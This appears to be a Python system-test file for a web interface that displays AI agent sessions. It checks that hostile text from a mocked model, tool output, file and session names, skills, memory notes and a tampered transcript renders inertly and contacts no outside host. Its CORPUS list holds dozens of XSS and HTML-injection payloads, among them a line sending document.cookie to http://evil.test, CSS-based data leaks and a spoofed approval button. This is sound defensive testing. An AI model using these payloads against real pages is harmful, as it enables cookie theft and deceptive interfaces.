"""Hostile text: from a model, in a file a tool read, in the name of a conversation. Nothing runs, nothing leaves."""

import json
from pathlib import Path
from typing import Any

import pytest

from openclaw.testing import Says, Step, TemporaryHome, calls, says
from openclaw.testing.server import MockModelServer
from tests.web.support import SharedBrowser, say, site, wait_idle

pytestmark = pytest.mark.system

RAN = "window.ran=1;fetch('http://evil.test/'+document.cookie)"
CORPUS = (
    f"<script>{RAN}</script>",
    f'<img src=x onerror="{RAN}">',
    f'<svg><script>{RAN}</script><animate onbegin="{RAN}" attributeName=x dur=1s></svg>',
    f"<svg onload={RAN.replace(' ', '')}>",
    f'<iframe srcdoc="<script>parent.ran=1</script>"></iframe><iframe src="javascript:{RAN}"></iframe>',
    f"[click](javascript:{RAN})",
    f"[click](JaVaScRiPt:{RAN})",
    f"[click](java&#115;cript:{RAN})",
    f"[click](\x01javascript:{RAN})",
    f"[click](data:text/html,<script>{RAN}</script>)",
    f"[click](vbscript:{RAN})",
    "![see](http://evil.test/pixel.png?secret)",
    '![x](x"onerror="window.ran=1)',
    "![x](data:image/svg+xml,<svg onload=window.ran=1>)",
    '<a href="https://ok.test" onclick="window.ran=1" style="position:fixed;inset:0">all</a>',
    "<style>@import url(http://evil.test/a.css);body{background:url(http://evil.test/b)}</style>",
    '<link rel=stylesheet href="http://evil.test/c.css"><meta http-equiv=refresh content="0;url=http://evil.test/">',
    '<form action="http://evil.test/"><input name=q><button>go</button></form>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
    "<details open ontoggle=window.ran=1>x</details><video><source onerror=window.ran=1></video>",
    '<base href="http://evil.test/"><object data="http://evil.test/x"></object><embed src="http://evil.test/y">',
    "```html onload=window.ran=1\n<script>window.ran=1</script>\n```",
    "</textarea></pre></code><script>window.ran=1</script>",
    "<oc-gate></oc-gate><oc-approvals></oc-approvals>",
    '<p style="background:url(http://evil.test/p)">x</p><div style="font-family:evil;position:fixed;inset:0">y</div>',
    "<svg><style>@font-face{font-family:e;src:url(http://evil.test/f)}*{font-family:e}</style></svg>",
    "<input name=token value=secret><style>input[value^=s]{background:url(http://evil.test/s)}</style>",
    '<svg><use href="http://evil.test/u.svg#x"/><a xlink:href="javascript:window.ran=1"><text>z</text></a></svg>',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5yYW49MSIvPg==)",
    '<picture><source srcset="http://evil.test/q 1x"><img srcset="http://evil.test/r 2x"></picture>',
    '<video poster="http://evil.test/v"></video><audio src="http://evil.test/a" autoplay></audio>',
    '[x](https://evil.test/ "onmouseover=window.ran=1")',
    '<div id="location" class="approval">May this command run? <button data-decision="allow-once">Allow</button></div>',
    "| <img src=x onerror=window.ran=1> |\n|---|\n| <b onmouseover=window.ran=1>x</b> |",
    "\u202egnp.exe\u2066 \u200b{{constructor.constructor('window.ran=1')()}} ${window.ran=1}",
)


def harmless(page: Any, here: Any) -> None:
    """Nothing ran, nothing foreign is on the page, nothing was asked of anybody else."""
    assert page.evaluate("window.ran") is None
    own = "form:not(.composer, .search, .fields, .job)"
    foreign = f"main :is(script,iframe,object,embed,{own},style,link,base,meta,svg,video,audio,picture,math)"
    assert page.locator(foreign).count() == 0
    tricks = page.evaluate(
        """() => [...document.querySelectorAll('.md *, .bubble *, oc-tool *')]
            .flatMap(each => [...each.attributes])
            .filter(({name, value}) => /^on|^style$/.test(name) || /^\\s*(javascript|vbscript|data:text)/i.test(value))
            .map(({name, value}) => name + '=' + value)"""
    )
    assert tricks == []
    assert all(url.startswith((here.address, f"ws://{here.address[7:]}", "data:", "blob:")) for url in here.requests)


def test_a_model_that_answers_with_attacks_runs_nothing(openclaw_home: TemporaryHome, browser: SharedBrowser) -> None:
    with MockModelServer([Says("\n\n".join(CORPUS), piece=97), *(says(each) for each in CORPUS[:3])]) as server:
        openclaw_home.configure(server.settings())
        with site(openclaw_home, browser) as here:
            page = here.open()
            for text in ("all at once", "one", "two", "three"):
                say(page, text)
                page.wait_for_selector(f"article.user >> text={text}")
                wait_idle(page)
                harmless(page, here)
            for link in page.locator(".md a").all():
                assert link.get_attribute("href").startswith(("https:", "http:"))
                assert link.get_attribute("rel") == "noopener noreferrer"
            assert page.locator(".md .approval, .md [data-decision]").count() == 0
            page.reload()
            page.wait_for_selector("article.assistant .md")
            harmless(page, here)
            assert here.complaints == []


def test_attacks_in_messages_tool_results_arguments_and_names_run_nothing(
    openclaw_home: TemporaryHome, browser: SharedBrowser
) -> None:
    (openclaw_home.workspace / "page.html").write_text("\n".join(CORPUS))
    script: list[Step] = [
        calls("read", path="page.html"),
        calls("write", path=f"{CORPUS[1]}.txt", content=CORPUS[0]),
        says("done"),
    ]
    with MockModelServer(script) as server:
        openclaw_home.configure(server.settings())
        with site(openclaw_home, browser) as here:
            page = here.open()
            say(page, "\n".join(CORPUS))
            page.wait_for_selector("text=done")
            wait_idle(page)
            for summary in page.locator("oc-tool summary").all():
                summary.click()
            harmless(page, here)
            for name in CORPUS[:4]:
                say(page, f"/name {name}")
                page.wait_for_selector("nav .recent a")
                harmless(page, here)
            page.click("nav a[href$='/sessions']")
            page.wait_for_selector("oc-sessions td.name")
            assert page.locator("oc-sessions :is(script,img,svg,iframe)").count() == 0
            harmless(page, here)


def test_a_transcript_written_by_an_attacker_shows_and_does_nothing(
    openclaw_home: TemporaryHome, browser: SharedBrowser
) -> None:
    hidden = "inv\u202efdp.exe\u2066"
    with MockModelServer([says("fine")]) as server:
        openclaw_home.configure(server.settings())
        with site(openclaw_home, browser) as here:
            page = here.open()
            say(page, "hello")
            page.wait_for_selector("text=fine")
            wait_idle(page)
            here.gateway.stop()
            poison(openclaw_home.transcripts()[0])
            (openclaw_home.workspace / "memory").mkdir(exist_ok=True)
            for name in (hidden, "plain"):  # the first is left out: its name is not what it looks like
                (openclaw_home.workspace / "memory" / f"{name}.md").write_text("\n".join(CORPUS))
            skill = openclaw_home.workspace / "skills" / "evil"
            skill.mkdir(parents=True)
            (skill / "SKILL.md").write_text(f"---\nname: evil\ndescription: {json.dumps(CORPUS[1])}\n---\n" + CORPUS[0])
            here.gateway.start()
            here.requests.clear()  # it listens elsewhere now
            here.enter(page)
            page.wait_for_selector("article.assistant >> text=the last word")
            assert page.locator(".thinking").count() == 1 and page.locator(".thinking[open]").count() == 0
            for summary in page.locator("oc-tool summary, .thinking summary").all():
                summary.click()
            assert page.locator(".thinking[open]").count() == 1
            harmless(page, here)
            assert page.locator(".tool .child a").count() == 0, "a key that is none leads nowhere"
            page.keyboard.press("Control+/")
            page.fill(".find input", "script")
            page.wait_for_selector(".hits button")
            page.press(".find input", "Enter")
            harmless(page, here)
            for path, sign in (
                ("/memory", ".notes button"),
                ("/skills", "[data-skill=evil]"),
                ("/sessions", "td.name"),
                ("/logs", ".line"),
            ):
                page.goto(here.address + path)
                page.wait_for_selector(sign)
                harmless(page, here)
            page.click("nav a[href$='/skills']")
            page.click("[data-skill=evil] button")
            page.wait_for_selector(".trust .buttons")
            harmless(page, here)
            page.click("nav a[href$='/memory']")
            page.click(".notes button")
            page.wait_for_selector(".editor textarea")
            harmless(page, here)
            assert "\u202e" not in page.inner_text("main")


def poison(path: Path) -> None:
    """Adds to a transcript what no model and no tool of ours would write."""
    parent = json.loads(path.read_text().splitlines()[-1])["id"]
    spawned = json.dumps({"childSessionKey": "javascript:window.ran=1"})
    steps = [{"step": CORPUS[0], "status": "in_progress"}, {"step": CORPUS[1], "status": "<b>"}]
    tool = f"{CORPUS[1]}\u202e"
    said: list[dict[str, Any]] = [
        {"role": "user", "content": "\n".join(CORPUS)},
        {"role": "user", "content": f"x\n[attached: ../{CORPUS[1]} ({CORPUS[0]})]"},
        {
            "role": "assistant",
            "content": [
                {"type": "thinking", "thinking": "\n".join(CORPUS)},
                {"type": "text", "text": "\n\n".join(CORPUS)},
                {"type": "toolCall", "id": 'a"]<i>', "name": tool, "arguments": {"command": CORPUS[1]}},
                {"type": "toolCall", "id": "b", "name": "update_plan", "arguments": {"plan": steps}},
                {"type": "toolCall", "id": "c", "name": "sessions_spawn", "arguments": {"task": CORPUS[0]}},
                {"type": "toolCall", "id": "d", "name": "edit", "arguments": {"path": CORPUS[1], "edits": "none"}},
            ],
            "provider": CORPUS[0],
            "model": CORPUS[1],
            "stopReason": "toolUse",
            "errorMessage": CORPUS[1],
        },
        {
            "role": "toolResult",
            "toolCallId": 'a"]<i>',
            "toolName": tool,
            "content": [{"type": "text", "text": "\n".join(CORPUS)}],
        },
        {
            "role": "toolResult",
            "toolCallId": "c",
            "toolName": "sessions_spawn",
            "content": [{"type": "text", "text": spawned}],
        },
        {"role": "assistant", "content": [{"type": "text", "text": "the last word"}], "stopReason": "stop"},
    ]
    with path.open("a") as file:
        for number, message in enumerate(said):
            entry = {"type": "message", "id": f'e{number}"]<i>', "parentId": parent, "message": message}
            parent = str(entry["id"])
            message["timestamp"] = 1_790_000_000_000
            file.write(json.dumps(entry) + "\n")


def test_an_exported_page_is_as_harmless(openclaw_home: TemporaryHome, browser: SharedBrowser) -> None:
    with MockModelServer([says("\n\n".join(CORPUS))]) as server:
        openclaw_home.configure(server.settings())
        with site(openclaw_home, browser) as here:
            page = here.open()
            say(page, "\n".join(CORPUS))
            page.wait_for_selector("article.assistant .md")
            wait_idle(page)
            page.click("nav a[href$='/sessions']")
            page.click("oc-sessions .actions summary")
            with page.expect_download() as download:
                page.click("text=Export as page")
            file = openclaw_home.root / "exported.html"
            download.value.save_as(file)
            reader = here.visitor().new_page()
            here.requests.clear()
            reader.goto(file.as_uri())
            assert reader.locator("article").count() == 2
            assert reader.evaluate("window.ran") is None
            assert reader.locator(":is(script, iframe, object, embed, form, svg, base)").count() == 0
            assert [url for url in here.requests if not url.startswith(("file:", "data:"))] == []
